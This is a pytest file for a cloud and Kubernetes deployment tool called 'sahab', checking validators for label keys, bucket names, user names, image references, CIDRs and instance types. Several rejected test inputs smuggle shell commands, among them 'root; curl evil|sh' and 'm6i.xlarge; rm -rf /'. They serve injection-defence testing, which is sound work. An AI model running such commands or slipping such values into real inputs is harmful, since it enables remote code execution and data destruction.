"""The target grammars in components.validation and the catalog's whole instance types, case by case."""

import pytest
from sahab.components import accelerators, validation


@pytest.mark.parametrize(("key", "ok"), [
    ("team", True), ("example.com/team", True), ("a.b-c_d", True), ("x" * 63, True), ("x" * 64, False),
    ("team!", False), ("-team", False), ("team-", False), ("Example.com/team", False), ("/team", False),
    ("a/b/c", False), ("example.com/", False), ("my team", False), ("", False), ("a\nb", False),
])
def test_qualified_names(key, ok):
    assert (validation.qualified_name(key) is None) is ok


@pytest.mark.parametrize(("value", "ok"), [
    ("", True), ("vision-1", True), ("A.b_c", True), ("x" * 63, True), ("x" * 64, False), ("a b", False),
    ("-a", False), ("a,b", False), ("a=b", False), ("a\n", False), ("{{ x }}", False),
])
def test_label_values(value, ok):
    assert (validation.label_value(value) is None) is ok


@pytest.mark.parametrize(("key", "ok"), [
    ("node.kubernetes.io/exclude-from-external-load-balancers", True), ("kubelet.kubernetes.io/x", True),
    ("kubernetes.io/hostname", False), ("node-role.kubernetes.io/worker", False), ("k8s.io/x", False),
    ("sahab.io/pool", False), ("feature.nvidia.com/x", False), ("kubernetes.azure.com/mode", False),
    ("eks.amazonaws.com/nodegroup", False), ("example.com/pool", True),
])
def test_node_label_keys_the_kubelet_may_set_and_sahab_does_not_own(key, ok):
    assert (validation.node_label_key(key) is None) is ok


@pytest.mark.parametrize(("name", "ok"), [
    ("sahab-data-bucket-abc1234", True), ("a.b.c", True), ("ab", False), ("x" * 64, False), ("Ab", False),
    ("a..b", False), ("192.168.1.1", False), ("xn--abc", False), ("abc-s3alias", False), ("-abc", False),
])
def test_s3_bucket_names(name, ok):
    assert (validation.s3_bucket_name(name) is None) is ok


@pytest.mark.parametrize(("user", "ok"), [
    ("sahab", True), ("_svc", True), ("deploy-1", True), ("root", True), ("x" * 32, True), ("x" * 33, False),
    ("1abc", False), ("-x", False), ("Sahab", False), ("root; curl evil|sh", False), ("a b", False), ("", False),
])
def test_linux_user_names(user, ok):
    assert (validation.linux_user(user) is None) is ok


@pytest.mark.parametrize(("image", "ok"), [
    ("sahab/workload:0.1.0", True), ("registry.example.ae:5000/ml/workload:v1", True),
    ("workload@sha256:" + "a" * 64, True), ("Sahab/Workload", False), ("a b", False), ("x:1 --privileged", False),
    ("workload:", False), ("", False),
])
def test_image_references(image, ok):
    assert (validation.image_reference(image) is None) is ok


@pytest.mark.parametrize(("cidr", "ok"), [
    ("203.0.113.0/24", True), ("10.0.0.0/8", True), ("10.0.0.0/7", False), ("0.0.0.0/0", False),
    ("203.0.113.1/24", False), ("2001:db8::/32", False), ("x", False),
])
def test_api_access_cidrs(cidr, ok):
    assert (validation.api_access_cidr(cidr) is None) is ok


@pytest.mark.parametrize(("cloud", "instance_type", "accelerator"), [
    ("aws", "g5.2xlarge", "a10g"), ("aws", "p5.48xlarge", "h100"), ("aws", "m7i.metal-24xl", "cpu"),
    ("aws", "g5.bogus", None), ("aws", "m6i.xlarge; rm -rf /", None), ("aws", "g5", None), ("aws", "x.large", None),
    ("azure", "Standard_D8s_v5", "cpu"), ("azure", "Standard_E16ads_v5", "cpu"), ("azure", "Standard_D8s_v5 x", None),
    ("azure", "Standard_Dfoo", None), ("azure", "Standard_NC4as_T4_v3", "t4"), ("azure", "Standard_NC4as_T4_v3x", None),
    ("azure", "Standard_D8ls_v5", "cpu"), ("azure", "Standard_D14_v2", "cpu"), ("azure", "Standard_DS2_v2", "cpu"),
    ("azure", "Standard_F72s_v2", "cpu"),
    # Sizes outside the series the catalog knows, or that no series sells, are unknown rather than guessed:
    ("azure", "Standard_D8ps_v5", None), ("azure", "Standard_E96ias_v5", None), ("azure", "Standard_D8as_v6", None),
    ("azure", "Standard_D10s_v5", None), ("azure", "Standard_D96s_v4", None), ("azure", "Standard_D6_v2", None),
    ("azure", "Standard_E4-2s_v5", None), ("azure", "Standard_F8_v2", None),
])
def test_instance_types_are_known_whole(cloud, instance_type, accelerator):
    assert accelerators.accelerator_of_instance(cloud, instance_type) == accelerator


def test_every_default_instance_type_is_in_the_catalog():
    for (cloud, accelerator), candidates in accelerators.DEFAULT_INSTANCE_TYPES.items():
        for instance_type in candidates:
            assert accelerators.accelerator_of_instance(cloud, instance_type) == accelerator, instance_type


@pytest.mark.parametrize(("retention", "ok"), [("15d", True), ("36h", True), ("8w", True), ("0d", False),
                                               ("15", False), ("1y", False), ("15d ", False), ("015d", False)])
def test_prometheus_retention(retention, ok):
    assert (validation.prometheus_retention(retention) is None) is ok


def test_values_in_error_messages_are_escaped_and_cut():
    assert validation.shown("a\nb") == "'a\\nb'"
    shown = validation.shown("x" * 500)
    assert len(shown) < 100 and "500 characters" in shown


def test_the_mig_layout_label_is_the_one_managed_key_a_pool_may_set():
    assert validation.node_label_key("nvidia.com/mig.config") is None  # components/kubernetes/README.md: MIG
    assert validation.node_label_key("nvidia.com/gpu.present") is not None
